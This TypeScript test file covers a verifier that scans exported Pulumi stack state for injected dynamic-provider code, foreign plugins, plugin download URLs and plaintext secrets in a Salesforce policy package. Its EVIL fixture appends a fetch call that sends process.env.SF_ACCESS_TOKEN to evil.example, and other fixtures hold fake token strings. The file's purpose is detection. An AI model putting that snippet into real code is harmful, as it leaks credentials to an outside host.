import { describe, expect, it } from "vitest";
import { orgProperties, SECRET_SETTINGS } from "../../src/pulumi/orgSettings.ts";
import { parseState } from "../../src/state/exportedState.ts";
import { PROVIDER_TEXT } from "../../src/state/providerText.ts";
import { verifyState } from "../../src/state/verifyState.ts";

const STACK = "urn:pulumi:acme::sanctioned::";
const DYNAMIC = "pulumi-nodejs:dynamic/sanctioned:ConnectedUserPolicy";
const PROVIDER = "pulumi:providers:pulumi-nodejs";
const PLUGIN = "pulumi:providers:sanctioned";
const SIGNATURE = "4dabf18193072939515e22adb298388d";
const SECRET = { [SIGNATURE]: "1b47061264138c4ac30d75fd1eb44270", ciphertext: "v1:bqPF0cJL:Detwj0FG" };
const EVIL = `${PROVIDER_TEXT}fetch("https://evil.example/?" + process.env.SF_ACCESS_TOKEN);`;

type Parts = Record<string, unknown>;

/** A resource of a type, under a name, as the engine writes it. */
function resource(type: string, more: Parts = {}): Parts {
  return { urn: `${STACK}pulumi:pulumi:Stack$${type}::it`, custom: true, id: "1", type, ...more };
}

function ours(more: Parts = {}): Parts {
  const properties = { policyFile: "policy/acme.yaml", revocations: {}, __provider: PROVIDER_TEXT };
  return resource(DYNAMIC, { inputs: properties, outputs: properties, ...more });
}

/** The state of a stack with a program of ours, and what is added to it. */
function state(resources: readonly Parts[] = [], parts: Parts = {}): string {
  const all = [
    { urn: `${STACK}pulumi:pulumi:Stack::sanctioned-acme`, custom: false, type: "pulumi:pulumi:Stack" },
    resource(PROVIDER, {
      inputs: { "sanctioned:policy": "policy/acme.yaml", "sanctioned:clientSecret": SECRET },
    }),
    ours(),
    ...resources,
  ];
  return JSON.stringify({
    version: 3,
    deployment: { manifest: { version: "v3.259.0" }, resources: all, metadata: {}, ...parts },
  });
}

function codes(text: string, ...allow: string[]): string[] {
  return verifyState(parseState(text, "stack.json"), allow).map(({ code }) => code);
}

function refusal(text: string): string {
  try {
    parseState(text, "stack.json");
  } catch (error) {
    return (error as { code: string }).code;
  }
  return "";
}

describe("a state that this package wrote", () => {
  it("passes, as an export and as a file backend keeps it", () => {
    expect(codes(state())).toEqual([]);
    const { deployment } = JSON.parse(state());
    expect(codes(JSON.stringify({ version: 3, checkpoint: { stack: "acme", latest: deployment } }))).toEqual(
      [],
    );
  });

  it("passes with the providers of orgs that a program names, and not what else stands in them", () => {
    const named = (more: Parts) =>
      state([resource(PROVIDER, { inputs: { ...orgProperties("acme", more) } })]);
    expect(codes(named({ instanceUrl: "https://acme.my.salesforce.com", accessToken: SECRET }))).toEqual([]);
    for (const key of SECRET_SETTINGS)
      expect(codes(named({ [key]: "in the clear" }))).toEqual(["state-secret-plain"]);
    for (const [key, value] of [
      ["pluginDownloadURL", "https://evil.example"],
      ["version", "9.9.9"],
    ] as const) {
      const inputs = { ...orgProperties("acme", {}), [key]: value };
      expect(codes(state([resource(PROVIDER, { inputs })]))).toEqual(["state-plugin-named"]);
    }
    const inputs = { ...orgProperties("acme", {}), __provider: EVIL };
    expect(codes(state([resource(PROVIDER, { inputs })]))).toContain("state-foreign-code");
  });

  it("passes where there is none yet", () => {
    for (const text of ['{"version":3,"deployment":{"manifest":{},"metadata":{}}}', '{"deployment":null}'])
      expect(parseState(text, "stack.json").resources).toEqual([]);
  });

  it("passes with the resource of the plugin, and its providers with their secrets encrypted", () => {
    const properties = { policyFile: "policy/acme.yaml", revocations: {} };
    const added = [
      resource(PLUGIN, { inputs: { version: "0.1.0", instanceUrl: "https://acme.my.salesforce.com" } }),
      resource(PLUGIN, { inputs: { accessToken: SECRET } }),
      resource("sanctioned:index:ConnectedUserPolicy", { inputs: properties, outputs: properties }),
    ];
    expect(codes(state(added))).toEqual([]);
  });

  it("passes with components of any type, which no plugin is started for", () => {
    expect(codes(state([resource("acme:index:Orgs", { custom: false })]))).toEqual([]);
  });
});

describe("code that would run", () => {
  it.each<[string, string[], Parts]>([
    [
      "text added to it, in what is refreshed",
      ["state-foreign-code"],
      ours({ outputs: { __provider: EVIL } }),
    ],
    ["text added to it, in the inputs", ["state-foreign-code"], ours({ inputs: { __provider: EVIL } })],
    [
      "another text in each",
      ["state-foreign-code", "state-foreign-code"],
      ours({ inputs: { __provider: "" }, outputs: { __provider: "x" } }),
    ],
    ["none at all", ["state-foreign-code"], ours({ inputs: {} })],
    ["no inputs", ["state-foreign-code"], ours({ inputs: undefined })],
    ["one that is encrypted", ["state-foreign-code"], ours({ inputs: { __provider: SECRET } })],
    [
      "one deeper down",
      ["state-foreign-code"],
      ours({ outputs: { __provider: PROVIDER_TEXT, a: [{ __provider: EVIL }] } }),
    ],
    [
      "a dynamic resource of another program",
      ["state-foreign-code"],
      resource("pulumi-nodejs:dynamic:Resource", { inputs: { __provider: EVIL } }),
    ],
    [
      "the engine's own type with code in it",
      ["state-foreign-code"],
      resource("pulumi:pulumi:Stack", { inputs: { __provider: EVIL } }),
    ],
    [
      "a component with code in it",
      ["state-foreign-code"],
      resource("acme:index:Orgs", { custom: false, inputs: { __provider: EVIL } }),
    ],
    [
      "a plugin that is given commands",
      ["state-foreign-type"],
      resource("command:local:Command", { inputs: { delete: "id" } }),
    ],
    ["a plugin of its own", ["state-foreign-type"], resource("pulumi:providers:evil")],
    [
      "a type in the dynamic provider's name",
      ["state-foreign-type"],
      resource("pulumi-nodejs-evil:index:It"),
    ],
    [
      "a name of another type",
      ["state-type-unclear"],
      { ...ours(), urn: `${STACK}pulumi:providers:evil::it` },
    ],
    [
      "where a plugin comes from",
      ["state-plugin-named"],
      resource(PROVIDER, { inputs: { pluginDownloadURL: "https://evil.example" } }),
    ],
    [
      "where this package's plugin comes from",
      ["state-plugin-named"],
      resource(PLUGIN, { inputs: { pluginDownloadURL: "https://evil.example" } }),
    ],
    [
      "a plugin that is another under its name",
      ["state-plugin-named"],
      resource(PLUGIN, { inputs: { __internal: { name: "evil" } } }),
    ],
    [
      "code in the resource of the plugin",
      ["state-foreign-code"],
      resource("sanctioned:index:ConnectedUserPolicy", { outputs: { __provider: EVIL } }),
    ],
    ["another resource in the plugin's name", ["state-foreign-type"], resource("sanctioned:index:Command")],
    [
      "the variables that a plugin finds",
      ["state-plugin-named"],
      resource(PROVIDER, { outputs: { __internal: { envVarMappings: { A: "NODE_OPTIONS" } } } }),
    ],
  ])("is found: %s", (_, expected, added) => {
    expect(codes(state([added]))).toEqual(expected);
    expect(codes(state([], { pending_operations: [{ resource: added, type: "deleting" }] }))).toEqual(
      expected,
    );
  });

  it.each(["snippets", "extensions", "somethingNew"])("is found in parts that are not known: %s", (part) => {
    expect(codes(state([], { [part]: [{ code: "x" }] }))).toEqual(["state-part-unknown"]);
    expect(codes(state([], { [part]: [] }))).toEqual([]);
  });

  it("is found where a type is allowed: the type alone is, not code, not a plugin from elsewhere", () => {
    const type = "aws:s3/bucket:Bucket";
    const plugin = (inputs: Parts) => resource("pulumi:providers:aws", { inputs });
    const allowed = [type, "pulumi:providers:aws"];
    expect(
      codes(state([resource(type), plugin({ region: "eu-west-1", version: "7.0.0" })]), ...allowed),
    ).toEqual([]);
    expect(codes(state([resource(type), plugin({})]), type)).toEqual(["state-foreign-type"]);
    expect(codes(state([resource(type, { inputs: { __provider: EVIL } })]), type)).toEqual([
      "state-foreign-code",
    ]);
    for (const inputs of [{ pluginDownloadURL: "x" }, { __internal: { name: "evil" } }])
      expect(codes(state([plugin(inputs)]), ...allowed)).toEqual(["state-plugin-named"]);
  });
});

describe("a secret in the clear", () => {
  it.each<[string, Parts]>([
    [
      "one that an export shows",
      { outputs: { a: { [SIGNATURE]: "1b47061264138c4ac30d75fd1eb44270", plaintext: '"x"' } } },
    ],
    ["an access token of Salesforce", { outputs: { a: ["00D000000001942EAA!AQ0AQ"] } }],
    ["a private key", { outputs: { a: "-----BEGIN RSA PRIVATE KEY-----\nMII" } }],
    ["a token of GitHub", { outputs: { a: "ghp_0123456789012345678901234567890123456" } }],
    ["a client secret that was set without --secret", { inputs: { "sanctioned:clientSecret": "s3cr3t" } }],
  ])("is found: %s", (_, more) => {
    expect(codes(state([resource(PROVIDER, { inputs: {}, ...more })]))).toContain("state-secret-plain");
  });

  it("is found: one that a provider of the plugin was given", () => {
    expect(codes(state([resource(PLUGIN, { inputs: { clientSecret: "s3cr3t" } })]))).toEqual([
      "state-secret-plain",
    ]);
  });

  it("is found beside the resources", () => {
    expect(codes(state([], { metadata: { a: "glpat-0123456789abcdefghij" } }))).toEqual([
      "state-secret-plain",
    ]);
  });
});

describe("a text that can be read in two ways is refused", () => {
  it.each([
    ["a key twice", state().replace('"outputs":', '"outputs":{"__provider":"evil"},"outputs":')],
    ["a key in other letters", state().replace('"outputs":', '"Outputs":')],
    ["letters that Go folds", state().replace('"outputs":', '"output\u017f":')],
  ])("%s", (_, text) => {
    expect(refusal(text)).toBe("state-ambiguous");
  });

  it.each([
    ["nothing, as of an export that failed", "\n"],
    ["no JSON", "error: no stack selected"],
    ["no state", "{}"],
    ["a list", "[]"],
    ["resources that are no list", '{"deployment":{"resources":{"a":1}}}'],
    ["a resource that is none", '{"deployment":{"resources":["a"]}}'],
    ["an operation without a resource", '{"deployment":{"pending_operations":[{}]}}'],
  ])("%s", (_, text) => {
    expect(refusal(text)).toBe("state-not-readable");
  });
});

it("what is said of a state quotes nothing of it but names and types", () => {
  const said = verifyState(
    parseState(state([ours({ outputs: { __provider: EVIL, token: "00D000000001942EAA!AQ0AQ" } })]), "x"),
    [],
  );
  expect(JSON.stringify(said)).not.toMatch(/evil|AQ0AQ|createRequire/);
});
